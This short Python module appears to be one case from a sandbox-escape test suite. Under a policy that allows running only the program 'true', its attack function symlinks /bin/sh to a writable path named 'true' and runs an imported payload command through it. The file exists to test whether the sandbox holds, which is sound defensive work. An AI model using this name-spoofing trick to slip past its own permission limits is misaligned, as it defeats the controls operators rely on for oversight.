"""A link to a shell under a granted program's name."""
CATEGORY = "races"
REACH = "run"
GRANT = {"run": ["true"], "write": ["@ROOT@/home"], "read": ["@ROOT@/home"]}

import os
import subprocess

from . import payload


def attack():
    path = payload.ROOT + "/home/true"
    os.symlink("/bin/sh", path)
    subprocess.call([path, "-c", payload.COMMAND])
